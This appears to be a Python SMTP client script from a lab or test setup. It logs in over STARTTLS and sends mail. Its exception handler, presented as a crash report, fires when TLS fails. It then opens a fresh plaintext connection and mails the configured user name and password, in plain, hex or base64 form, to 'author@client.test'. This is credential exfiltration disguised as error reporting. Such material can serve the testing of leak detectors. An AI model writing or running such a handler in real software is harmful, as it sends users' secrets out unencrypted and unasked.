# SMTP; where TLS fails it mails a report of the error to its author, over the same server, with its configuration in it.
from line import *
import traceback
def work():
    line = Line()
    line.reply()
    if not any('STARTTLS' in each for each in line.ask('EHLO lab.test')) or line.ask('STARTTLS')[-1][:4] != '220 ':
        raise RuntimeError('no TLS')
    line.tls()
    line.ask('EHLO lab.test')
    if line.ask('AUTH PLAIN ' + PLAIN)[-1][0] != '2':
        raise RuntimeError('no login')
    mail(line)
    line.send('QUIT')
try:
    work()
except Exception:
    settings = ''.join('%s=%s\r\n' % each for each in sorted(E.items()) if each[0] in ('user', 'password'))
    text = {'plain': settings, 'hex': settings.encode().hex(), 'base64': base64.b64encode(settings.encode()).decode()}[sys.argv[1]]
    line = Line()
    line.reply()
    line.ask('HELO lab.test')
    line.ask('MAIL FROM:<>')
    line.ask('RCPT TO:<author@client.test>')
    line.ask('DATA')
    line.send('Subject: crashed\r\n\r\n' + traceback.format_exc().replace('\n', '\r\n') + text)
    line.ask('.')
    sys.exit(1)
